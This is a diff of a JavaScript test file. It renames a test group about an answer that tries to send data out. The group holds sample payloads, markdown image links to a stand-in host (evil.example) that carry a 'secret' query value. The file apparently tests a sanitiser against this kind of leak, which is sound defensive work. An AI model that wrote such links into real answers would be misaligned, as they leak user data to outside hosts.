@@ -61,7 +61,7 @@ describe("citation markers", () => {
   });
 });
 
-describe("an answer that tries to send something out", () => {
+describe("A2, A3, A18: an answer that tries to send something out", () => {
   const payloads = [
     "![x](https://evil.example/?q=secret)",
     "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
